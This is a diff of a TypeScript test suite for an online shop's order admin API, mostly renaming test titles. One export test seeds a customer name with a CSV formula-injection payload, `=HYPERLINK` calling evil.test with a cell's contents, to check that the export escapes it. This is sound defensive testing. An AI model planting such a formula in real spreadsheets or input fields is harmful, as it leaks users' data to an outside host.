@@ -35,9 +35,13 @@ beforeEach(async () => {
   await stock(shop, [product({ code: 'LL-SF-1', title: 'Hoi An Sofa' })]);
 });
 
-async function placed(day: string, wishes: Parameters<typeof orderBody>[1] = {}, token?: string) {
+async function placed(
+  day: string,
+  overrides: Parameters<typeof orderBody>[1] = {},
+  token?: string,
+) {
   shop.clock.now = new Date(`2026-05-${day}:00:00.000Z`);
-  const body = orderBody(['LL-SF-1'], wishes);
+  const body = orderBody(['LL-SF-1'], overrides);
   return (await ask(shop.app, placeOrder, { body }, token ? { token } : {})).result.number;
 }
 
@@ -52,7 +56,7 @@ function move(number: string, from: Order['status'], status: Order['status'], no
 }
 
 describe('finding orders', () => {
-  test('by status and day, newest first, whatever their status', async () => {
+  test('filters by status and day, with the newest first', async () => {
     const one = await placed('05T08');
     const two = await placed('06T23');
     const three = await placed('07T08');
@@ -65,7 +69,7 @@ describe('finding orders', () => {
     expect(await find({ status: 'shipped' })).toEqual([]);
   });
 
-  test('by number, e-mail or telephone in any spelling, and nothing else', async () => {
+  test('searches by number, email or phone in any spelling, and by nothing else', async () => {
     const one = await placed('05T08');
     const two = await placed('06T08', { email: 'Mai@Example.com', phone: '0903 123-456' });
     const all = { one: [one], two: [two], none: [] };
@@ -88,7 +92,7 @@ describe('finding orders', () => {
   });
 
   test.each([{}, { search: 'linh@example.com' }, { status: 'pending' as const }])(
-    'page by page gives each once: %j',
+    'returns each order once over all pages: %j',
     async (filter) => {
       const numbers: string[] = [];
       for (let hour = 10; hour < 20; hour += 1) numbers.push(await placed(`05T${hour}`));
@@ -105,7 +109,7 @@ describe('finding orders', () => {
     },
   );
 
-  test('one whole, or not at all', async () => {
+  test('returns one order with all fields, or 404', async () => {
     const number = await placed('05T08', { note: 'Ring twice' });
     const { result } = await ask(shop.app, getOrder, { params: { number } });
     expect(result).toMatchObject({ number, note: 'Ring twice', address: '12 Lê Lợi' });
@@ -114,8 +118,8 @@ describe('finding orders', () => {
   });
 });
 
-describe('moving an order on', () => {
-  test('only along the ways there are', async () => {
+describe("changing an order's status", () => {
+  test('follows only the allowed transitions', async () => {
     for (const from of ORDER_STATUSES) {
       for (const status of ORDER_STATUSES) {
         if (ORDER_TRANSITIONS[from].includes(status)) continue;
@@ -136,7 +140,7 @@ describe('moving an order on', () => {
     expect(await find({ status: 'exchange' })).toEqual([]);
   });
 
-  test('only from where it was seen, and of several at once one', async () => {
+  test('requires the current status, and one of several parallel changes wins', async () => {
     const number = await placed('05T08');
     const responses = await Promise.all([
       move(number, 'pending', 'confirmed'),
@@ -149,7 +153,7 @@ describe('moving an order on', () => {
     });
   });
 
-  test('the customer reads of it in their language, unless the shop does not want it', async () => {
+  test("sends a mail in the customer's language, unless staff turn it off", async () => {
     const number = await placed('05T08', { language: 'kr' });
     shop.mails.length = 0;
     await move(number, 'pending', 'confirmed');
@@ -161,8 +165,8 @@ describe('moving an order on', () => {
   });
 });
 
-describe('the export for a spreadsheet', () => {
-  test('has every field, and no cell that a spreadsheet would run', async () => {
+describe('the order export', () => {
+  test('contains every field, and no cell that a spreadsheet runs as a formula', async () => {
     const evil = `=HYPERLINK("http://evil.test?"&A1,"x")`;
     const number = await placed('05T08', {
       firstName: evil,
@@ -177,7 +181,7 @@ describe('the export for a spreadsheet', () => {
     expect(next).toBeUndefined();
     expect(csv.startsWith('\uFEFFnumber,createdAt,timeZone,status,')).toBe(true);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.test?""&A1,""x"")"`);
-    // No cell begins with a sign that makes it a formula.
+    // No cell begins with a formula sign.
     expect(csv.split(/\r\n/)[1]).not.toMatch(/(?:^|,)"?[=+\-@]/);
     const [head, row] = parseCsv(csv) ?? [];
     const cells = Object.fromEntries(
@@ -195,7 +199,7 @@ describe('the export for a spreadsheet', () => {
     });
   });
 
-  test('narrows by status and day', async () => {
+  test('filters by status and day', async () => {
     await placed('05T08');
     const later = await placed('07T08');
     const body = { from: '2026-05-06', status: 'pending' } as const;
@@ -219,7 +223,7 @@ describe('mails that could not be sent', () => {
     return number;
   }
 
-  test('are shown with what happened, not with what they say, and can be sent again', async () => {
+  test('are listed with their error but not their content, and can be resent or discarded', async () => {
     const number = await failedMail();
     const [mail, other] = await listed('failed');
     expect([mail?.kind, other?.kind].toSorted()).toEqual(['order-placed', 'order-received']);
@@ -249,7 +253,7 @@ describe('customers', () => {
   const found = async (body: z.input<typeof findCustomers.body>) =>
     (await ask(shop.app, findCustomers, { body })).result;
 
-  test('are found by address, id, telephone or order number, and listed newest first by pages', async () => {
+  test('are found by email, id, phone or order number, and listed newest first in pages', async () => {
     const members = [];
     for (let minute = 0; minute < 5; minute += 1) {
       shop.clock.now = new Date(shop.clock.now.getTime() + 60_000);
